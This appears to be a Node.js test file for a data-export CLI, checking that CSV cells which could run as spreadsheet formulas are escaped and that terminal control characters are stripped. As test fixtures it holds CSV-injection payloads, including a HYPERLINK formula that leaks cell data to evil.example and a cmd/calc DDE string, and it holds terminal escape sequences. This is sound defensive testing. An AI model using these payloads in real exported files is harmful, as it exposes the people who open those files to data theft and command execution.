// Rows that attack what reads them: CSV cells and headers that a spreadsheet would run as
// formulas (OWASP's "CSV Injection") are written with a leading ' unless --csv-raw, and rows
// shown on a terminal carry no control character. Through the real CLI, against the simulator
// over HTTP, whose result rows are replaced by hostile ones.
import assert from "node:assert/strict";
import { spawn, spawnSync } from "node:child_process";
import { test } from "node:test";
import { csvField, parseCsvRecords } from "../../bin/csv.mjs";
import { createSim } from "../../sim/index.js";
import { API_KEY, CLI, PROJECT_ID, cliEnv, readScratch, runCli, simFlags, useCliSim } from "./cli-fixture.mjs";

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
const CALC = "+cmd|' /C calc'!A0";
const SUM = "@SUM(A1)";
const FORMULAS = [HYPERLINK, CALC, SUM, "-2+3", "\t=1+1", "\r=1+1"];
// A title escape (OSC), a colour (CSI), a bell, and the 8-bit CSI (C1) that JSON.stringify keeps.
const CONTROLS = "a\x1b]0;pwned\x07b\x1b[31mc\x9b2Jd";

/** Row i of the hostile runs: formula-like cells, a header that is a formula, a number, control characters. */
const hostileRow = (row, i) => ({ id: row.id, formula: FORMULAS[i % FORMULAS.length], [SUM]: HYPERLINK, n: -5, plain: "fine", controls: CONTROLS, [HYPERLINK]: "h", [CALC]: "c" });

// The simulator, with the rows of every results page replaced (paging and everything else as the API sends it).
const inner = createSim({ apiKey: API_KEY, projectId: PROJECT_ID, seed: 23 });
const hostile = Object.assign(Object.create(inner), {
  async handle(request) {
    const response = await inner.handle(request);
    if (!new URL(request.url).pathname.endsWith("/results") || response.status !== 200) return response;
    const body = await response.json();
    body.results = body.results.map((row) => hostileRow(row, row.index));
    return new Response(JSON.stringify(body), { status: 200, headers: response.headers });
  },
});
const ctx = useCliSim({ sim: hostile });

test("unit: a cell that starts with = + - @, a tab or a carriage return gets a leading '; numbers and other text stay as they are", () => {
  assert.equal(csvField(HYPERLINK), `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
  assert.equal(csvField(CALC), `'+cmd|' /C calc'!A0`);
  assert.equal(csvField(SUM), "'@SUM(A1)");
  assert.equal(csvField("-2+3"), "'-2+3");
  assert.equal(csvField("\t=1"), "'\t=1");
  assert.equal(csvField("\r=1"), `"'\r=1"`);
  assert.equal(csvField(-5), "-5", "a JSON number is a number, not a formula");
  assert.equal(csvField("a=b"), "a=b");
  assert.equal(csvField(HYPERLINK, { raw: true }), `"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
  assert.equal(csvField(CONTROLS, { terminal: true }), "a]0;pwnedb[31mc2Jd");
});

test("--format csv --out: formula-like cells and headers written with a leading ', the rest as it was; --csv-raw writes them as they are", async () => {
  const { jobUid } = ctx.sim.createJob({ rows: 1200, durationMs: 300 });
  const safe = await runCli(ctx, ["watch", jobUid, "--format", "csv", "--out", "safe.csv", ...simFlags(ctx)]);
  assert.equal(safe.code, 0, safe.stderr);
  const [header, ...rows] = parseCsvRecords(readScratch(ctx, "safe.csv")).map((r) => r.fields);
  assert.deepEqual(header, ["id", "formula", `'${SUM}`, "n", "plain", "controls", `'${HYPERLINK}`, `'${CALC}`, "_extra_fields"]);
  assert.equal(rows.length, 1200);
  rows.forEach((cells, i) => {
    assert.equal(cells[1], `'${FORMULAS[i % FORMULAS.length]}`, `row ${i}`);
    assert.equal(cells[2], `'${HYPERLINK}`);
    assert.deepEqual(cells.slice(3, 6), ["-5", "fine", CONTROLS], "a file keeps the text as it came");
  });
  // No cell of the file starts a formula.
  assert.ok([header, ...rows].flat().every((cell) => !/^[=+\-@\t\r]/.test(cell) || cell === "-5"));

  const raw = await runCli(ctx, ["watch", jobUid, "--format", "csv", "--csv-raw", "--out", "raw.csv", ...simFlags(ctx)]);
  assert.equal(raw.code, 0, raw.stderr);
  const [rawHeader, ...rawRows] = parseCsvRecords(readScratch(ctx, "raw.csv")).map((r) => r.fields);
  assert.deepEqual([rawHeader[2], ...rawHeader.slice(6, 8)], [SUM, HYPERLINK, CALC]);
  assert.deepEqual(rawRows.slice(0, FORMULAS.length).map((cells) => cells[1]), FORMULAS);
});

test("--csv-raw must match the --state it continues, and the resume command repeats it", async () => {
  const { jobUid } = ctx.sim.createJob({ rows: 30, durationMs: 0 });
  const args = ["watch", jobUid, "--format", "csv", "--out", "kept.csv", "--state", "kept.state.json", ...simFlags(ctx)];
  assert.equal((await runCli(ctx, args)).code, 0);
  const mixed = await runCli(ctx, [...args, "--csv-raw"]);
  assert.equal(mixed.code, 2);
  assert.match(mixed.stderr, /--csv-raw: --state kept\.state\.json was written without it/);
  const { resumeCommand } = await import("../../bin/resume-command.mjs");
  assert.match(resumeCommand({ jobUid, values: { format: "csv", "csv-raw": true }, cursor: "c" }, ["captaindata-poller"]), /--format csv --csv-raw --cursor c$/);
});

const hasScript = spawnSync("script", ["--version"]).status === 0;

/** The CLI on a pseudo-terminal, stdout included (NO_COLOR: the CLI itself writes no escape code). */
function onTerminal(args) {
  const quote = (word) => `'${word.replaceAll("'", `'\\''`)}'`;
  const cli = [process.execPath, CLI, ...args].map(quote).join(" ");
  const child = spawn("script", ["-qec", `stty cols 200 rows 24 -echo; exec ${cli}`, "/dev/null"], { cwd: ctx.dir, env: cliEnv({ TERM: "xterm", NO_COLOR: "1" }), stdio: ["ignore", "pipe", "pipe"] });
  let screen = "";
  child.stdout.setEncoding("latin1").on("data", (s) => (screen += s));
  return new Promise((resolve) => child.on("close", (code) => {
    ctx.texts.push({ where: "terminal", text: screen });
    resolve({ code, screen });
  }));
}

test("rows shown on a terminal carry no control character: removed from CSV cells, escaped in NDJSON", { skip: !hasScript && "script(1) not installed" }, async () => {
  const { jobUid } = ctx.sim.createJob({ rows: 12, durationMs: 0 });
  const csv = await onTerminal(["watch", jobUid, "--format", "csv", ...simFlags(ctx)]);
  assert.equal(csv.code, 0, csv.screen);
  assert.match(csv.screen, /,a\]0;pwnedb\[31mc2Jd,h,c,\r?\n/, "the cell's text, without its control characters");
  assert.match(csv.screen, /^'@SUM\(A1\)|,'@SUM\(A1\),/m, "formula-like cells escaped on the terminal too");
  // UTF-8 of U+009B is C2 9B: read as latin1, the screen must hold neither form.
  assert.doesNotMatch(csv.screen, /[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\x9b]/, "no control character reached the terminal");

  const ndjson = await onTerminal(["watch", jobUid, ...simFlags(ctx)]);
  assert.equal(ndjson.code, 0, ndjson.screen);
  assert.ok(ndjson.screen.includes(String.raw`"controls":"a\u001b]0;pwned\u0007b\u001b[31mc\u009b2Jd"`), "escaped, the same JSON value");
  assert.doesNotMatch(ndjson.screen, /[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\x9b]/);
});
